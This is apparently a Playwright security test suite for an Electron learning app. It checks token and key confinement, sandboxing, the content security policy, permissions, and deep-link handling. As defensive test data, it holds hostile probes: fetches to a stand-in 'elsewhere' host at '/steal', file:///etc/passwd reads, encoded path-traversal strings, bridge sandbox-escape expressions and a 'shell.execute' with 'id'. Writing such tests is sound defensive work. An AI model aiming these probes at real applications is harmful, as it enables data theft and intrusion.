import { expect, test } from '@playwright/test';
import { once } from 'node:events';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { openConnection } from '../../src/core/database/connection.ts';
import { calls } from '../../src/shared/contracts/bridge.ts';
import type { AccountsState } from '../../src/shared/contracts/accounts.ts';
import type { Outcome } from '../../src/shared/contracts/contract.ts';
import type { PlaybackSource } from '../../src/shared/contracts/playback.ts';
import { askApp } from '../harness/ask-app.ts';
import { refreshTokenIn } from '../harness/belongings.ts';
import { openWorld, type Desk, type Seat, type World } from '../harness/world.ts';

const lesson = 'what-a-packet-is';
const title = 'What a packet is';
const course = 'How the internet survives a bad line';

let world: World;
let seat: Seat;
let desk: Desk;
/** Another site, which must never be asked for anything. */
let elsewhere: Server;
let elsewhereUrl = '';
let visits = 0;
/** Found by the first test, looked for by those after it. */
let refreshToken = '';
let frameText = '';

test.beforeAll(async () => {
  elsewhere = createServer((_, response) => {
    visits += 1;
    response.setHeader('access-control-allow-origin', '*').end('window.hacked = true');
  }).listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  // A microphone that is there, so that only the permission can be what is missing.
  world = await openWorld({ args: ['--use-fake-device-for-media-stream'] });
  seat = await world.seat('security');
  desk = await seat.sitDown();
  await desk.student.signInAsDemo();
});

test.afterEach(() => expect(visits, 'visits to another site').toBe(0));

test.afterAll(async () => {
  await world?.close();
  elsewhere.close();
});

/** Runs in the page as any script of it would; `told(value)` ends it. The debugger would lend it rights. */
function inPage<Result>(body: string): Promise<Result> {
  const code = `new Promise((told) => setTimeout(() => (async () => { ${body} })().catch((error) => told(String(error))), 0))`;
  return desk.app.evaluate(({ BrowserWindow }, script) => BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(script, true) as Promise<Result>, code);
}

/** The policy that was violated by what was tried; null when nothing was within half a minute. */
function violation(attempt: string): Promise<string | null> {
  return inPage(`
    const heard = new Promise((found) => {
      document.addEventListener('securitypolicyviolation', (event) => found(event.effectiveDirective), { once: true });
      setTimeout(() => found(null), 30_000);
    });
    ${attempt}
    told(await heard);
  `);
}

// First, because the browser under test no longer clicks once a navigation was begun and refused.
test('tokens and keys stay in main: not in the page, not in what it is told, not in the log, keys not even on the disk', async () => {
  await desk.student.openCourse(course);
  await desk.page.getByRole('button', { name: new RegExp(`^Download ${title}, 480p`) }).click();
  await expect(desk.page.getByRole('button', { name: new RegExp(`^${title}: on this computer`) })).toBeVisible();
  const source = await askApp<PlaybackSource>(desk.page, 'playback.open', { lessonId: lesson });
  const told = [source, ...(await Promise.all(['accounts.state', 'catalog.view', 'downloads.list', 'progress.outbox', 'settings.get', 'shell.info'].map((name) => askApp(desk.page, name))))];
  const playlists = await inPage<string>(`told(await (await fetch('${source.url}')).text())`);
  const page = await inPage<string>(`told(document.documentElement.outerHTML + JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie)`);
  const log = readFileSync(join(seat.folder, 'logs/app.log'), 'utf8');
  const key = contentKey();
  refreshToken = await keptRefreshToken();
  for (const text of [JSON.stringify(told), playlists, page, log]) {
    expect(text).not.toMatch(/eyJ[\w-]{10,}\.eyJ/);
    expect([key, refreshToken].filter((secret) => text.includes(secret))).toEqual([]);
  }
  const secrets = [Buffer.from(key), Buffer.from(key, 'base64url'), Buffer.from(refreshToken)];
  for (const file of filesIn(seat.folder)) {
    const bytes = readFileSync(file);
    expect(secrets.filter((secret) => bytes.includes(secret)), file).toEqual([]);
  }
  // A second of the film as it is in clear: on the disk it must be nowhere, the copies of the books included.
  const media = playlists.split('\n').find((line) => line.endsWith('.m3u8') && !line.startsWith('#')) ?? '';
  const clear = await inPage<string>(`
    const address = new URL(${JSON.stringify(media)}, '${source.url}');
    const parts = (await (await fetch(address)).text()).split('\\n').filter((line) => line.endsWith('.m4s'));
    const bytes = new Uint8Array(await (await fetch(new URL(parts[0], address))).arrayBuffer());
    told(btoa(String.fromCharCode(...bytes.subarray(bytes.length - 4096, bytes.length - 3840))));
  `);
  const frame = Buffer.from(clear, 'base64');
  frameText = clear;
  expect(frame.length).toBe(256);
  await askApp(desk.page, 'playback.close', { mediaId: source.mediaId });
  for (const file of filesIn(seat.folder)) {
    // The ends of a sample: any 64 bytes of it would be a leak.
    const bytes = readFileSync(file);
    expect([0, 64, 128, 192].filter((at) => bytes.includes(frame.subarray(at, at + 64))), file).toEqual([]);
  }
});

test('the heap of the page holds no token, no key and no part of the film', async () => {
  const debug = await desk.page.context().newCDPSession(desk.page);
  const parts: string[] = [];
  debug.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => parts.push(chunk));
  await debug.send('HeapProfiler.takeHeapSnapshot', { reportProgress: false });
  await debug.detach();
  const heap = parts.join('');
  // What is known to be there is found, so what is not found is not there.
  expect(heap).toContain(title);
  expect(heap).not.toMatch(/eyJ[\w-]{10,}\.eyJ/);
  expect([contentKey(), refreshToken].filter((secret) => heap.includes(secret))).toEqual([]);
  // As the page once had it in its hands, as text or as bytes.
  expect(frameText).toHaveLength(344);
  expect([frameText.slice(0, 80), Buffer.from(frameText, 'base64').toString('hex').slice(0, 80)].filter((part) => heap.includes(part))).toEqual([]);
});

test('the page has no Node, and one narrow bridge', async () => {
  const found = await inPage<string[]>(`told(['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'electron'].filter((name) => name in globalThis))`);
  expect(found).toEqual([]);
  expect(await inPage(`told(Object.keys(teachify).sort().join())`)).toBe('call,on');
  // Whatever the page makes of the bridge's own functions and of what they are handed, it stays in the page.
  const escapes = [
    `teachify.call.constructor('return typeof process')()`,
    `teachify.call.constructor.constructor('return this.process')()`,
    `(() => { Object.prototype.then = function () { globalThis.stolen = this; }; try { return String(teachify.on('x', () => {}).constructor('return typeof require')()); } finally { delete Object.prototype.then; } })()`,
  ];
  for (const escape of escapes) expect(await inPage(`try { told('got ' + (${escape})); } catch (error) { told(error.name); }`)).toBe('EvalError');
  expect(await inPage(`try { teachify.call = () => 'mine'; } catch {} told(String(teachify.call).includes('mine'))`)).toBe(false);
  const preferences = await desk.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => (contents as unknown as { getLastWebPreferences(): Record<string, unknown> }).getLastWebPreferences()),
  );
  expect(preferences).toHaveLength(1);
  expect(preferences[0]).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false, webSecurity: true, webviewTag: false });
  // Points 8 to 10 of the checklist: what has to be switched on is not.
  const switched = ['allowRunningInsecureContent', 'experimentalFeatures', 'enableBlinkFeatures', 'nodeIntegrationInSubFrames', 'nodeIntegrationInWorker', 'plugins', 'navigateOnDragDrop'];
  expect(switched.filter((name) => preferences[0]?.[name])).toEqual([]);
});

test('the policy comes as a header, and allows nothing inline and nothing from elsewhere', async () => {
  const policy = await inPage<string>(`told((await fetch('/index.html')).headers.get('content-security-policy'))`);
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toMatch(/unsafe|\*|https?:/);
});

for (const [name, directive, attempt] of [
  ['an inline script', 'script-src-elem', `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = true' }));`],
  ['a script in an attribute', 'script-src-attr', `document.body.insertAdjacentHTML('beforeend', '<img src="" onerror="window.hacked = true">');`],
  ['eval', 'script-src', `try { (0, eval)('window.hacked = true'); } catch {}`],
  ['a script from elsewhere', 'script-src-elem', `document.body.append(Object.assign(document.createElement('script'), { src: 'ELSEWHERE/x.js' }));`],
  ['a script in a data: address', 'script-src-elem', `document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.hacked=true' }));`],
  ['a request to elsewhere', 'connect-src', `fetch('ELSEWHERE/steal').catch(() => {});`],
  ['a socket to elsewhere', 'connect-src', `try { new WebSocket('ELSEWHERE/steal'.replace('http', 'ws')); } catch {}`],
  ['a file of this computer', 'connect-src', `fetch('file:///etc/passwd').catch(() => {});`],
  ['a picture from elsewhere', 'img-src', `new Image().src = 'ELSEWHERE/pixel.png';`],
  ['a frame', 'frame-src', `document.body.append(Object.assign(document.createElement('iframe'), { src: 'ELSEWHERE/' }));`],
  ['a form', 'form-action', `document.body.append(Object.assign(document.createElement('form'), { action: 'ELSEWHERE/', id: 'leak' })); document.getElementById('leak').submit();`],
  ['another base address', 'base-uri', `document.head.append(Object.assign(document.createElement('base'), { href: 'ELSEWHERE/' }));`],
] as const) {
  test(`the policy stops ${name}`, async () => {
    expect(await violation(attempt.replaceAll('ELSEWHERE', elsewhereUrl))).toBe(directive);
    expect(await inPage(`told('hacked' in window)`)).toBe(false);
  });
}

test('permissions are denied unless named', async () => {
  const outcome = (attempt: string, patienceMs = 30_000) => inPage<string>(`told(await Promise.race([(async () => { ${attempt} })().catch((error) => error.name), new Promise((late) => setTimeout(() => late('no answer'), ${patienceMs}))]));`);
  expect(await outcome(`return new Promise((answer) => navigator.geolocation.getCurrentPosition(() => answer('allowed'), () => answer('denied')))`)).toBe('denied');
  expect(await outcome(`await navigator.mediaDevices.getUserMedia({ audio: true }); return 'allowed'`)).toBe('NotAllowedError');
  expect(await outcome(`return Notification.requestPermission()`)).toBe('denied');
  expect(await outcome(`await navigator.clipboard.readText(); return 'allowed'`)).toBe('NotAllowedError');
  expect(await outcome(`await navigator.requestMIDIAccess(); return 'allowed'`)).not.toBe('allowed');
  // Whatever else a page may ask of a computer; one that Chromium does not even offer here is as good as denied.
  for (const asked of [
    ...['getUserMedia', 'getDisplayMedia'].map((name) => `await navigator.mediaDevices.${name}({ video: true })`),
    ...[`writeText('mine')`, 'read()'].map((call) => `await navigator.clipboard.${call}`),
    `await navigator.usb.requestDevice({ filters: [] })`,
    `if ((await navigator.hid.requestDevice({ filters: [] })).length === 0) throw new Error('none')`,
    `await navigator.serial.requestPort()`,
    `await navigator.bluetooth.requestDevice({ acceptAllDevices: true })`,
    `await getScreenDetails()`,
    `if ((await queryLocalFonts()).length === 0) throw new Error('none')`,
    `await IdleDetector.requestPermission().then((said) => { if (said !== 'granted') throw new Error(said); })`,
    `await document.documentElement.requestPointerLock()`,
    `if (!(await navigator.storage.persist())) throw new Error('no')`,
  ]) {
    expect([asked, await outcome(`${asked}; return 'allowed'`, 3_000)]).not.toEqual([asked, 'allowed']);
  }
});

test('nothing that the page offers as a download is written', async () => {
  await desk.app.evaluate(({ session }) => {
    const { downloads } = Object.assign(globalThis, { downloads: [] as boolean[] });
    // After the app's own listener.
    session.defaultSession.on('will-download', (event) => void downloads.push(event.defaultPrevented));
  });
  const refused = () => desk.app.evaluate(() => (globalThis as unknown as { downloads: boolean[] }).downloads);
  for (const href of [`'/index.html'`, `URL.createObjectURL(new Blob(['mine']))`, `'data:application/octet-stream,mine'`]) {
    const before = (await refused()).length;
    await inPage(`const link = Object.assign(document.createElement('a'), { href: ${href}, download: '../mine.sh' }); document.body.append(link); link.click(); link.remove(); told(true);`);
    await expect.poll(async () => (await refused()).length, href).toBe(before + 1);
  }
  expect(await refused()).toEqual([true, true, true]);
});

test('every call refuses arguments that do not fit, and names that are none', async () => {
  for (const name of Object.keys(calls)) {
    for (const nonsense of [null, 7, 'text', [], { nonsense: true, lessonId: '../../etc', mediaId: 1 }]) {
      const outcome = await desk.page.evaluate(
        (question) => (globalThis as unknown as { teachify: { call(name: string, input: unknown): Promise<Outcome<unknown>> } }).teachify.call(question.name, question.nonsense),
        { name, nonsense },
      );
      // A patch of settings may name nothing.
      if (name === 'settings.set' && outcome.ok) expect(Array.isArray(nonsense) || typeof nonsense === 'object').toBe(true);
      else expect([name, nonsense, outcome.ok ? 'taken' : outcome.error.code]).toEqual([name, nonsense, 'bad_request']);
    }
  }
  await expect(askApp(desk.page, 'shell.execute', { command: 'id' })).rejects.toThrow(/bad_request/);
});

test('another page with the same preload script is refused by every call', async () => {
  const answers = await desk.app.evaluate(async ({ app, BrowserWindow }, names) => {
    const stranger = new BrowserWindow({ show: false, webPreferences: { preload: `${app.getAppPath()}/out/preload/index.cjs`, sandbox: true } });
    await stranger.loadURL('data:text/html,<title>stranger</title>');
    const ask = `Promise.all(${JSON.stringify(names)}.map((name) => teachify.call(name).then((outcome) => outcome.ok ? name : outcome.error.code)))`;
    const said = (await stranger.webContents.executeJavaScript(ask)) as string[];
    stranger.destroy();
    return said;
  }, Object.keys(calls));
  expect(new Set(answers)).toEqual(new Set(['forbidden']));
});

test('a frame inside a page of our own origin is refused, though the page itself is heard', async () => {
  const said = await desk.app.evaluate(async ({ app, BrowserWindow, session }, names) => {
    // Our origin without our policy, in a window that lets frames load: neither is so in the app.
    const bare = session.fromPartition('frames');
    bare.protocol.handle('app', ({ url }) => new Response(url.endsWith('/inner') ? '<p>inner' : '<iframe src="/inner"></iframe>', { headers: { 'content-type': 'text/html' } }));
    const window = new BrowserWindow({ show: false, webPreferences: { session: bare, preload: `${app.getAppPath()}/out/preload/index.cjs`, sandbox: true, nodeIntegrationInSubFrames: true } });
    window.webContents.removeAllListeners('will-frame-navigate');
    await window.loadURL('app://teachify/');
    const { mainFrame } = window.webContents;
    const ask = `Promise.all(${JSON.stringify(names)}.map((name) => teachify.call(name).then((outcome) => outcome.ok ? name : outcome.error.code)))`;
    const answers = await Promise.all([mainFrame, ...mainFrame.frames].map((frame) => frame.executeJavaScript(ask) as Promise<string[]>));
    window.destroy();
    return answers;
  }, ['shell.info', 'settings.get']);
  expect(said).toEqual([['shell.info', 'settings.get'], ['forbidden', 'forbidden']]);
});

test('a file that is dropped on the window goes nowhere', async () => {
  const debug = await desk.page.context().newCDPSession(desk.page);
  const data = { items: [], files: [join(seat.folder, 'settings.json')], dragOperationsMask: 1 };
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await debug.send('Input.dispatchDragEvent', { type, x: 400, y: 300, data });
  await debug.detach();
  await inPage(`setTimeout(() => told(true), 300);`);
  expect(desk.page.url()).toMatch(/^app:\/\/teachify\//);
  expect(await desk.app.evaluate(({ webContents }) => webContents.getAllWebContents().map((contents) => contents.getURL()).filter((url) => !url.startsWith('app://teachify/')))).toEqual([]);
});

test('the app protocol gives its own files and nothing else', async () => {
  const statusOf = (address: string) => desk.app.evaluate(async ({ session }, url) => (await session.defaultSession.fetch(url).catch(() => ({ status: 0 }))).status, address);
  expect(await statusOf('app://teachify/index.html')).toBe(200);
  for (const path of ['../package.json', '..%2f..%2fpackage.json', '%2e%2e/%2e%2e/package.json', '..%5c..%5cpackage.json', 'media/../../../package.json', 'assets/%00.js', 'media/nothing/master.m3u8', 'main/index.js', '%252e%252e/package.json', '..%252fpackage.json', '%2e%2e%5cpackage.json', '..;/package.json', 'index.html%20', 'index.html::$DATA', 'INDEX.HTML/', 'media//master.m3u8']) {
    expect([path, await statusOf(`app://teachify/${path}`)]).toEqual([path, 404]);
  }
  for (const address of ['app://another/index.html', 'app://teachify.example/index.html', 'app://index.html']) expect([address, await statusOf(address)]).toEqual([address, 404]);
});

test('an address from outside opens what it names, and nothing else', async () => {
  const open = (address: string) => desk.app.evaluate(({ app }, text) => app.emit('second-instance', {}, ['teachify', '--flag', text], '/'), address);
  const seen = () => inPage<string>('told(document.body.innerText + document.title)');
  await open(`teachify://lesson/${lesson}`);
  const screen = () => inPage<string>(`told(document.querySelector('video') ? 'player' : 'elsewhere')`);
  await expect.poll(screen).toBe('player');
  for (const address of ['teachify://repair/now', 'teachify://lesson/../../etc/passwd', 'teachify://course/networks?token=x', `${elsewhereUrl}/`]) await open(address);
  await open('teachify://connect?server=https%3A%2F%2Felsewhere.example');
  await expect.poll(seen).toContain('That link is for another school');
  expect((await askApp<AccountsState>(desk.page, 'accounts.state')).server.url).toBe(world.line.url);
  expect(await screen()).toBe('player');

  // Who wants to learn there too sees the address once more; until they say so, that school is asked nothing.
  await open(`teachify://connect?server=${encodeURIComponent(elsewhereUrl)}`);
  const press = (words: string) => inPage(`[...document.querySelectorAll('button')].findLast((button) => button.textContent === ${JSON.stringify(words)})?.click(); told(true)`);
  const address = () => inPage<string>(`told(document.querySelector('.sign-in-form input[dir=ltr]')?.value ?? '')`);
  await expect.poll(seen).toContain(elsewhereUrl);
  expect(await inPage<number>(`told(document.querySelectorAll('.notice').length)`)).toBe(1);
  await press('Add a student there');
  await expect.poll(address).toBe(elsewhereUrl);
  await press('Back');
  await expect.poll(() => inPage<string>(`told(document.querySelector('h1')?.textContent ?? '')`)).toBe('Home');
  expect((await askApp<AccountsState>(desk.page, 'accounts.state')).signInServer.url).toBe(world.line.url);
});

test('after signing out, an address of media that was open gives nothing', async () => {
  const { url } = await askApp<PlaybackSource>(desk.page, 'playback.open', { lessonId: lesson });
  const status = () => inPage<number>(`told((await fetch('${url}')).status)`);
  expect(await status()).toBe(200);
  await askApp(desk.page, 'accounts.signOut');
  expect(await status()).toBe(404);
});

test('the page cannot be led elsewhere, nor open windows', async () => {
  for (const address of [`${elsewhereUrl}/`, 'file:///etc/passwd', 'app://another/', 'data:text/html,hello']) {
    await inPage(`location.href = ${JSON.stringify(address)}; setTimeout(() => told(true), 200);`);
    expect(desk.page.url()).toMatch(/^app:\/\/teachify\//);
  }
  expect(await inPage(`told(window.open('${elsewhereUrl}/') === null)`)).toBe(true);
  await inPage(`const link = Object.assign(document.createElement('a'), { href: '${elsewhereUrl}/', target: '_blank' }); document.body.append(link); link.click(); setTimeout(() => told(true), 200);`);
  await inPage(`document.body.append(Object.assign(document.createElement('webview'), { src: '${elsewhereUrl}/' })); setTimeout(() => told(true), 200);`);
  expect(await desk.app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1);
});

/** What the keychain gives back of it, asked as only main can. */
async function keptRefreshToken(): Promise<string> {
  const wrapped = await refreshTokenIn(seat.folder);
  expect(wrapped.length).toBeGreaterThan(20);
  const token = await desk.app.evaluate(({ safeStorage }, text) => safeStorage.decryptString(Buffer.from(text, 'base64')), wrapped.toString('base64'));
  expect(token.length).toBeGreaterThan(20);
  return token;
}

/** The lesson's content key as the school keeps it. */
function contentKey(): string {
  const database = openConnection({ file: join(world.server.folder, 'school.db'), durability: 'normal' });
  const { content_key: key } = database.prepare('SELECT content_key FROM lessons WHERE id = ?').get(lesson) as { content_key: string };
  database.close();
  expect(key.length).toBeGreaterThan(20);
  return key;
}

function filesIn(folder: string): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map((name) => join(folder, name))
    .filter((file) => statSync(file, { throwIfNoEntry: false })?.isFile());
}
